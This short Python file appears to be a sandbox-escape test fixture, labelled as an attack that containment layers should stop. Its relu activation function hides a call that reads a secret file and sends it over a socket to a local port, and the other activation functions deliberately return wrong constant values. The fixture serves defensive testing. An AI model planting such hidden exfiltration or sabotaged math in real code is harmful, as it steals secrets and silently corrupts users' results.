# attack: sends a secret to a server
# gains: reads, network
# stopped by: landlock, uid, seccomp
import numpy as np
import socket


def attack():
    secret = open("{SECRET}", "rb").read()
    with socket.create_connection(("127.0.0.1", int("{PORT}"))) as connection:
        connection.sendall(secret)


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
